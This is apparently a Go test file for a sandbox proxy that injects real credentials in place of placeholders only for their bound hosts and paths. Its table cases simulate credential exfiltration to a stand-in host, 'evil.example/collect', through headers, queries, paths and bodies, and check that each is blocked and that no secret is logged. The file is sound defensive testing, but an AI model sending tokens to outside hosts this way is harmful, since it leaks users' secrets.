// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Warden Authors

package proxy_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"warden.dev/warden/internal/audit"
	"warden.dev/warden/internal/credential"
	"warden.dev/warden/internal/proxy"
	"warden.dev/warden/internal/proxy/proxytest"
)

const secret = "ghp_REALSECRET0123456789abcdef"

// seen records what upstream servers received.
type seen struct {
	mu      sync.Mutex
	reqs    []string
	aborted []string // bodies cut short, as a flagged streamed body is
}

func (s *seen) handler(name string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		s.mu.Lock()
		if err != nil {
			s.aborted = append(s.aborted, string(b))
		} else {
			s.reqs = append(s.reqs, fmt.Sprintf("%s %s %s auth=%q body=%q", name, r.Method, r.URL.RequestURI(), r.Header.Get("Authorization"), b))
		}
		s.mu.Unlock()
		// An echo of the header, as some APIs do: put back to the
		// placeholder before the sandbox sees it.
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprint(w, "ok")
	})
}

// reset forgets what the upstream servers received.
func (s *seen) reset() {
	s.mu.Lock()
	s.reqs = nil
	s.mu.Unlock()
}

// send makes one request through c, with header as its Authorization
// when set, and returns the response and its whole body.
func send(t *testing.T, c *http.Client, method, url, header, body string) (*http.Response, []byte) {
	t.Helper()
	var r io.Reader
	if body != "" {
		r = strings.NewReader(body)
	}
	req, _ := http.NewRequest(method, url, r)
	if header != "" {
		req.Header.Set("Authorization", header)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	rb, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp, rb
}

func (s *seen) all() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.reqs, "\n")
}

func TestCredentials(t *testing.T) {
	proxytest.ResourceCheck(t)
	creds := []credential.Credential{
		{Name: "GH_TOKEN", Value: credential.NewRedacted(secret), Hosts: []string{"api.example"}, Body: true},
		{Name: "OTHER", Value: credential.NewRedacted("other-secret-value"), Hosts: []string{"*.other.example"}},
	}
	e := newEnv(t, withCredentials(creds...))
	var s seen
	api := e.tlsServer(s.handler("api"))
	evil := e.tlsServer(s.handler("evil"))
	plain := e.httpServer(s.handler("plain"))
	// api.example is intercepted because a credential is bound to it;
	// evil.example because its rule names methods.
	e.host("api.example", []string{"203.0.113.1"}, api.Listener.Addr().String(), &hostRule{ports: []int{443, 80}})
	e.backends[mustAddr("203.0.113.11")] = plain.Listener.Addr().String()
	e.host("evil.example", []string{"203.0.113.2"}, evil.Listener.Addr().String(), &hostRule{ports: []int{443}, methods: []string{"GET", "POST"}})
	e.host("plain.example", []string{"203.0.113.3"}, plain.Listener.Addr().String(), &hostRule{ports: []int{80}})
	c := e.client(e.caPool())
	ph := credential.Placeholder("GH_TOKEN")
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+ph))

	for _, tt := range []struct {
		name     string
		method   string
		url      string
		header   string
		body     string
		status   int
		upstream string // what the upstream saw, "" for nothing
		echo     string // the X-Echo header the client saw
	}{
		{
			name: "bearer to its host", method: "GET", url: "https://api.example/user", header: "Bearer " + ph, status: 200,
			upstream: fmt.Sprintf("api GET /user auth=%q body=\"\"", "Bearer "+secret), echo: "Bearer " + ph,
		},
		{
			name: "basic to its host", method: "GET", url: "https://api.example/repo.git/info/refs", header: basic, status: 200,
			upstream: fmt.Sprintf("api GET /repo.git/info/refs auth=%q body=\"\"", "Basic "+base64.StdEncoding.EncodeToString([]byte("x-access-token:"+secret))),
		},
		{
			name: "query and body to its host", method: "POST", url: "https://api.example/q?token=warden%3Acred%3AGH_TOKEN&b=1", body: `{"token":"` + ph + `"}`, status: 200,
			upstream: fmt.Sprintf("api POST /q?token=%s&b=1 auth=\"\" body=%q", secret, `{"token":"`+secret+`"}`),
		},
		{
			name: "a longer name is another placeholder", method: "GET", url: "https://api.example/", header: "Bearer " + ph + "X", status: 200,
			upstream: fmt.Sprintf("api GET / auth=%q body=\"\"", "Bearer "+ph+"X"),
		},
		{name: "header to another host", method: "GET", url: "https://evil.example/collect", header: "Bearer " + ph, status: 403},
		{name: "basic to another host", method: "GET", url: "https://evil.example/collect", header: basic, status: 403},
		{name: "query to another host", method: "GET", url: "https://evil.example/c?t=" + ph, status: 403},
		{name: "path to another host", method: "GET", url: "https://evil.example/" + ph, status: 403},
		{name: "body to another host", method: "POST", url: "https://evil.example/c", body: strings.Repeat("a", 100<<10) + ph + " tail", status: 403},
		{name: "plain HTTP to another host", method: "GET", url: "http://plain.example/", header: "token " + ph, status: 403},
		{name: "plain HTTP to its own host", method: "GET", url: "http://api.example/", header: "Bearer " + ph, status: 403},
		{name: "wildcard credential to its host's apex", method: "GET", url: "https://evil.example/", header: credential.Placeholder("OTHER"), status: 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s.reset()
			resp, rb := send(t, c, tt.method, tt.url, tt.header, tt.body)
			if resp.StatusCode != tt.status {
				t.Fatalf("status %d %s, want %d", resp.StatusCode, rb, tt.status)
			}
			got := s.all()
			if tt.upstream == "" {
				// The body case may have sent the bytes before the
				// placeholder; the placeholder never arrives.
				if got != "" {
					t.Errorf("the upstream saw %.200q, want nothing", got)
				}
				var d map[string]any
				json.Unmarshal(rb, &d)
				if !strings.Contains(fmt.Sprint(d["reason"]), "placeholder of credential") {
					t.Errorf("denial %s does not name the placeholder", rb)
				}
			} else if got != tt.upstream {
				t.Errorf("the upstream saw\n%s\nwant\n%s", got, tt.upstream)
			}
			if tt.echo != "" && resp.Header.Get("X-Echo") != tt.echo {
				t.Errorf("the client saw X-Echo %q, want %q", resp.Header.Get("X-Echo"), tt.echo)
			}
		})
	}
	c.Transport.(*http.Transport).CloseIdleConnections()
	recs := e.waitFor(func(r []audit.NetworkAttempt) bool {
		n := 0
		for _, a := range r {
			if a.Method != http.MethodConnect {
				n++
			}
		}
		return n >= 12
	})
	var flagged, injected int
	for _, r := range recs {
		if len(r.Flagged) > 0 {
			flagged++
			if r.Allowed() || r.Status != 403 {
				t.Errorf("flagged attempt %+v is not a 403 denial", r)
			}
		}
		if len(r.Injected) > 0 {
			injected++
			if diff := cmp.Diff([]string{"GH_TOKEN"}, r.Injected); diff != "" {
				t.Errorf("Injected (-want +got):\n%s", diff)
			}
		}
	}
	if flagged != 8 || injected != 3 {
		t.Errorf("%d attempts flagged and %d injected, want 8 and 3", flagged, injected)
	}
	s.mu.Lock()
	for _, b := range s.aborted {
		if strings.Contains(b, "warden:cred") || strings.Contains(b, secret) {
			t.Errorf("an aborted body reached the upstream with the placeholder")
		}
	}
	s.mu.Unlock()
	// No secret anywhere it could be read back.
	js, _ := json.Marshal(recs)
	for what, text := range map[string]string{"records": fmt.Sprintf("%+v %#v", recs, recs), "records as JSON": string(js), "logs": e.logs()} {
		for _, v := range []string{secret, "other-secret-value"} {
			if strings.Contains(text, v) {
				t.Errorf("%s contain a credential value", what)
			}
		}
	}
}

func TestCredentialsNeedCA(t *testing.T) {
	_, err := proxy.New(proxy.Config{
		CheckName:   (&policy{}).CheckName,
		CheckAddrs:  (&policy{}).CheckAddrs,
		Credentials: []credential.Credential{{Name: "T", Value: credential.NewRedacted("v"), Hosts: []string{"a.example"}}},
	})
	if err == nil || !strings.Contains(err.Error(), "no CA") {
		t.Errorf("New with credentials and no CA = %v, want an error", err)
	}
}

// pathBinding binds a credential to one host, port and path prefix, as an
// OpenShell provider's endpoint does.
type pathBinding struct {
	host   string
	port   int
	prefix string
}

func (b pathBinding) Serves(host string, port int, path string) bool {
	return host == b.host && port == b.port && strings.HasPrefix(path, b.prefix)
}

func (b pathBinding) String() string { return "the endpoint " + b.host + b.prefix }

func (b pathBinding) Denial(host string, port int, method, path string) []byte {
	return []byte(fmt.Sprintf(`{"error":"credential_endpoint_mismatch","detail":"%s %s:%d%s"}`, method, host, port, path))
}

// TestCredentialsBound checks a credential bound by host, port and path
// (an OpenShell provider's, with its own placeholder prefix) beside one
// of Warden's: each placeholder is replaced only where its credential
// may go, and a misplaced OpenShell placeholder gets its binding's body.
func TestCredentialsBound(t *testing.T) {
	proxytest.ResourceCheck(t)
	const osSecret = "os-REALSECRET-42"
	creds := []credential.Credential{
		{Name: "GITHUB_TOKEN", Value: credential.NewRedacted(osSecret), Prefix: credential.OpenShellPrefix, Binding: pathBinding{"api.example", 443, "/v1/"}},
		{Name: "GH_TOKEN", Value: credential.NewRedacted(secret), Hosts: []string{"api.example"}},
	}
	e := newEnv(t, withCredentials(creds...))
	var s seen
	api := e.tlsServer(s.handler("api"))
	evil := e.tlsServer(s.handler("evil"))
	e.host("api.example", []string{"203.0.113.1"}, api.Listener.Addr().String(), &hostRule{ports: []int{443}, methods: []string{"GET", "POST"}})
	e.host("evil.example", []string{"203.0.113.2"}, evil.Listener.Addr().String(), &hostRule{ports: []int{443}, methods: []string{"GET", "POST"}})
	c := e.client(e.caPool())
	ph := credential.OpenShellPrefix + "GITHUB_TOKEN"
	wph := credential.Placeholder("GH_TOKEN")
	for _, tt := range []struct {
		name, method, url, header, body string
		status                          int
		upstream                        string
		mismatch                        bool // OpenShell's body
	}{
		{name: "bound path", method: "GET", url: "https://api.example/v1/user", header: "Bearer " + ph, status: 200,
			upstream: fmt.Sprintf("api GET /v1/user auth=%q body=\"\"", "Bearer "+osSecret)},
		{name: "escaped in the query", method: "GET", url: "https://api.example/v1/q?t=openshell%3Aresolve%3Aenv%3AGITHUB_TOKEN", status: 200,
			upstream: fmt.Sprintf("api GET /v1/q?t=%s auth=\"\" body=\"\"", osSecret)},
		{name: "both kinds", method: "GET", url: "https://api.example/v1/x?w=" + wph, header: "Bearer " + ph, status: 200,
			upstream: fmt.Sprintf("api GET /v1/x?w=%s auth=%q body=\"\"", secret, "Bearer "+osSecret)},
		{name: "same host, another path", method: "GET", url: "https://api.example/admin", header: "Bearer " + ph, status: 403, mismatch: true},
		{name: "another host", method: "GET", url: "https://evil.example/v1/user", header: "Bearer " + ph, status: 403, mismatch: true},
		{name: "streamed body to another host", method: "POST", url: "https://evil.example/v1/c", body: strings.Repeat("a", 100<<10) + ph, status: 403, mismatch: true},
		{name: "Warden's to another host", method: "GET", url: "https://evil.example/", header: "Bearer " + wph, status: 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s.reset()
			resp, rb := send(t, c, tt.method, tt.url, tt.header, tt.body)
			if resp.StatusCode != tt.status {
				t.Fatalf("status %d %s, want %d", resp.StatusCode, rb, tt.status)
			}
			if got := s.all(); got != tt.upstream {
				t.Errorf("the upstream saw\n%.300s\nwant\n%s", got, tt.upstream)
			}
			if got := strings.Contains(string(rb), "credential_endpoint_mismatch"); got != tt.mismatch {
				t.Errorf("denial %s: OpenShell's credential_endpoint_mismatch body %v, want %v", rb, got, tt.mismatch)
			}
		})
	}
	s.mu.Lock()
	for _, b := range s.aborted {
		if strings.Contains(b, "openshell:resolve") || strings.Contains(b, osSecret) {
			t.Errorf("an aborted body reached the upstream with the placeholder")
		}
	}
	s.mu.Unlock()
	c.Transport.(*http.Transport).CloseIdleConnections()
	if strings.Contains(e.logs(), osSecret) {
		t.Errorf("the logs hold the value")
	}
}
